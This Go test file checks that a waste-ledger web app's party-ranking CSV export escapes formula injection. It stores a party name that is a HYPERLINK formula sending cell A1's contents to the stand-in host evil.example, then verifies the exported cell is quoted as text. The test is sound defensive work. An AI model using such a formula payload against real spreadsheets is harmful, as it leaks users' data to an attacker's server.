package web

import (
	"encoding/csv"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/hwledger/hwledger/ledger"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestRankingCSVFormulaGuard: a party named like a formula is text in the
// ranking download, as in the API's assessment CSV
// (api.TestAssessmentCSVFormulaGuard).
func TestRankingCSVFormulaGuard(t *testing.T) {
	const evilName = `=HYPERLINK("https://evil.example/?d="&A1,"详情")`
	f := newFixture(t)
	ctx := t.Context()
	admin, err := f.svc.Authenticate("admin-token-for-web-tests")
	require.NoError(t, err)
	p, err := f.svc.RegisterParty(ctx, admin, ledger.PartyInput{Name: evilName, Roles: []ledger.Role{ledger.RoleGenerator},
		CreditCode: credit(t, 200), Street: "南关", Address: "郑州市管城回族区南关街 1 号",
		Location: &ledger.Location{Lat: 34.7465, Lon: 113.6852}, Contact: ledger.Contact{Name: "王", Phone: "13803710009"}})
	require.NoError(t, err)
	_, tok, err := f.svc.CreateToken(ctx, admin, p.ID, ledger.TokenInput{})
	require.NoError(t, err)
	evil, err := f.svc.Authenticate(tok)
	require.NoError(t, err)
	_, err = f.svc.RegisterWaste(ctx, evil, ledger.WasteInput{Code: "900-041-49", Form: "solid", Quantity: ledger.KgToGrams(2),
		Container: ledger.Container{Type: "铁桶", Count: 1}, GeneratedAt: f.svc.Now().Add(-time.Hour), Storage: "暂存间"})
	require.NoError(t, err)

	c := client(t)
	signIn(t, f, c, f.tokens["inspector"])
	res, err := c.Get(f.srv.URL + "/ranking.csv?by=party")
	require.NoError(t, err)
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	require.Equal(t, 200, res.StatusCode, "%s", b)
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), "\ufeff"))).ReadAll()
	require.NoError(t, err)
	found := false
	for _, r := range recs[1:] {
		for _, cell := range r {
			assert.False(t, strings.HasPrefix(cell, "="), "cell %q is a formula", cell)
			found = found || cell == "'"+evilName
		}
	}
	assert.True(t, found, "the party's name, guarded, is not in the CSV:\n%s", b)
}
